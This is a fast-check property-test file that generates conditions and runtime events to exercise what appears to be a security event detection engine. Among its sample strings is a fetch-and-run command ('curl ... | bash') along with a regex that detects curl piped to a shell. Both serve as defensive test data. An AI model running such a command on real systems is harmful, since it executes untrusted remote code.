// Drawn conditions and drawn events from one small world of words, so that many conditions are true of some of them: case,
// letters beyond ASCII, wildcards as characters, addresses in many spellings, absent fields and empty ones.
import fc from 'fast-check';
import { networkOf } from '../../machines/detection/address.ts';
import type { Condition, Leaf, Piece } from '../../machines/detection/condition.ts';
import { FIELD_NAMES, type FieldName, fieldOf } from '../../machines/detection/fields.ts';
import {
  EVENT_KINDS,
  type EventProcess,
  type RuntimeEvent,
  SEVERITIES,
} from '../../machines/wire/event.ts';
import { HOSTILE, hex, NOW_MS } from './samples.ts';

const TEXTS = [
  '',
  'a',
  'A',
  'ab',
  'AbC',
  'abcabc',
  '/usr/bin/curl',
  '/usr/bin/CURL',
  'curl -s http://x/a.sh | bash',
  '100%',
  'a_b',
  'a\\b',
  '*',
  '?',
  'a*b',
  'Grün',
  'GRÜN',
  'ǅ',
  'straße',
  'STRASSE',
  'K',
  'ſ',
  'İ',
  'ı',
  'ΣΑΣ',
  'σας',
  '😀',
  'x😀y',
  'line\nend',
  'tab\there',
  '\u0000',
  'a\u0000b',
  `"quoted" (a, b) or not`,
  HOSTILE,
];
const ADDRESSES = [
  '10.0.0.1',
  '10.255.255.255',
  '010.0.0.1',
  '10.0.0',
  '10.0.0.1.2',
  '256.1.1.1',
  '::',
  '::1',
  '::ffff:10.0.0.1',
  '::10.0.0.1',
  '1::10.0.0.1',
  '2001:db8::1',
  '2001:DB8:0:0:0:0:0:1',
  '2001:db8:0:0:0:0:0:0:1',
  '2001:db8::1::',
  '1:2:3:4:5:6:7::',
  '::2:3:4:5:6:7:8',
  '1:2:3:4:5:6:7:8',
  '1:2:3:4:5:6:7:8::',
  ':1:2:3:4:5:6:7',
  'fe80::1%eth0',
  '12345::1',
  '1.2.3.4::',
  '',
  ':',
  ':::',
  'a',
  '10.0.0.1 ',
  '0x0a.0.0.1',
];
const NETWORKS = [
  '10.0.0.0/8',
  '10.0.0.1',
  '0.0.0.0/0',
  '::/0',
  '::1',
  '::ffff:0:0/96',
  '2001:db8::/32',
  '2001:db8::1/128',
  '1:2:3:4:5:6:7:8/127',
];
const PATTERNS = [
  'a',
  '^a',
  'c$',
  'a.c',
  'b.?',
  '^/usr/(?:local/)?bin/',
  '(?i)curl',
  '(?i)grün',
  'curl.*\\|\\s*(?:ba)?sh',
  '[A-C]+',
  '[^a-z]',
  '(?i)[a-z]',
  '\\d{1,3}',
  '\\w\\b',
  '\\.',
  'line.end',
  'line\\send',
  '"',
  'a{2}|c{1,2}$',
  '😀.',
  '^$',
];
const NUMBERS = [0, 1, 22, 443, 1_000, 65_535];

const fieldsOf = (...kinds: readonly string[]) =>
  FIELD_NAMES.filter((name) => kinds.includes(fieldOf(name).kind));
const text = fc.constantFrom(...TEXTS);
const textField = fc.constantFrom(...fieldsOf('text'));
const wordField = fc.constantFrom(...fieldsOf('text', 'address', 'choice'));
const numberField = fc.constantFrom(...fieldsOf('integer', 'decimal'));
const someText = text.filter((one) => one !== '');

const pieces: fc.Arbitrary<readonly Piece[]> = fc
  .array(
    fc.oneof(
      fc.constant<Piece>({ is: 'any' }),
      fc.constant<Piece>({ is: 'one' }),
      fc
        .constantFrom('a', 'b', 'c', 'A', '/usr', 'curl', '%', '_', '\\', '*', 'ü', '😀', '\n')
        .map<Piece>((one) => ({ is: 'text', text: one })),
    ),
    { minLength: 1, maxLength: 6 },
  )
  .map((found) => found.reduce<Piece[]>(joinPiece, []))
  .filter((found) => found.some(({ is }) => is !== 'text') && !isAny(found));

/** As the parser would: no two stars and no two texts beside each other. */
function joinPiece(found: Piece[], piece: Piece): Piece[] {
  const last = found.at(-1);
  if (last?.is === 'any' && piece.is === 'any') return found;
  if (last?.is !== 'text' || piece.is !== 'text') return [...found, piece];
  return [...found.slice(0, -1), { is: 'text', text: last.text + piece.text }];
}

function isAny(found: readonly Piece[]): boolean {
  return found.length === 1 && found[0]?.is === 'any';
}

const among: fc.Arbitrary<Leaf> = fc.oneof(
  fc.record({
    is: fc.constant('among' as const),
    field: textField,
    values: fc.uniqueArray(text, { minLength: 1, maxLength: 3 }),
  }),
  fc.record({
    is: fc.constant('among' as const),
    field: fc.constant<FieldName>('severity'),
    values: fc.uniqueArray(fc.constantFrom<string>(...SEVERITIES), { minLength: 1, maxLength: 3 }),
  }),
  fc.record({
    is: fc.constant('among' as const),
    field: numberField,
    values: fc.uniqueArray(fc.constantFrom(...NUMBERS), { minLength: 1, maxLength: 3 }),
  }),
);
const leaf: fc.Arbitrary<Leaf> = fc.oneof(
  among,
  fc.record({ is: fc.constant('present' as const), field: fc.constantFrom(...FIELD_NAMES) }),
  fc.record({ is: fc.constant('like' as const), field: textField, pieces }),
  fc.record({ is: fc.constant('contains' as const), field: wordField, text: someText }),
  fc.record({
    is: fc.constant('pattern' as const),
    field: wordField,
    source: fc.constantFrom(...PATTERNS),
  }),
  fc.record({
    is: fc.constant('compare' as const),
    field: numberField,
    op: fc.constantFrom('<' as const, '<=' as const, '>' as const, '>=' as const),
    value: fc.constantFrom(...NUMBERS),
  }),
  fc
    .record({
      field: fc.constantFrom(...fieldsOf('address')),
      source: fc.constantFrom(...NETWORKS),
    })
    .map(({ field, source }): Leaf => {
      const network = networkOf(source);
      if (network === null) throw new Error(`${source} is no network`);
      return { is: 'network', field, source, ...network };
    }),
  fc.record({ is: fc.constant('words' as const), text: someText }),
);

/** Conditions of a few levels. */
export const conditions: fc.Arbitrary<Condition> = fc.letrec<{ any: Condition }>((tie) => ({
  any: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    leaf,
    fc.record({
      is: fc.constantFrom('all' as const, 'either' as const),
      of: fc.array(tie('any'), { minLength: 2, maxLength: 3 }),
    }),
    fc.record({ is: fc.constant('not' as const), of: tie('any') }),
  ),
})).any;

const absent = <T>(value: fc.Arbitrary<T>) => fc.option(value, { nil: undefined, freq: 2 });
const number = fc.constantFrom(...NUMBERS);
const address = fc.constantFrom(...ADDRESSES);
const someProcess = fc.record({
  ...{ exec_id: text, pid: number, binary: text },
  ...{ uid: absent(number), arguments: absent(text), cwd: absent(text) },
}) as fc.Arbitrary<EventProcess>;

/** Events with an identity of their own. */
export const conditionEvents: fc.Arbitrary<RuntimeEvent> = fc
  .record({
    event_kind: fc.constantFrom(...EVENT_KINDS),
    severity: fc.constantFrom(...SEVERITIES),
    message: text,
    process: absent(someProcess),
    parent: absent(someProcess),
    ancestors: absent(fc.array(someProcess, { maxLength: 2 })),
    workload: absent(fc.record({ container_id: absent(text), image: absent(text) })),
    network: absent(
      fc.record({
        protocol: text,
        direction: fc.constantFrom('outbound', 'inbound', 'listen'),
        source_ip: absent(address),
        destination_ip: absent(address),
        destination_port: absent(number),
        domain: absent(text),
      }),
    ),
    file: absent(fc.record({ path: text, operation: text })),
    policy: absent(fc.record({ name: text, action: text })),
    mitre: absent(fc.record({ technique: text, tactic: text })),
    anomaly_score: absent(fc.constantFrom(0, 0.25, 1)),
    occurrences: absent(number),
    raw_kind: absent(text),
  })
  .map((event) => ({
    ...{ event_id: hex(16), schema_version: 1, observed_at: new Date(NOW_MS).toISOString() },
    ...(JSON.parse(JSON.stringify(event)) as Omit<RuntimeEvent, 'event_id'>),
  })) as fc.Arbitrary<RuntimeEvent>;
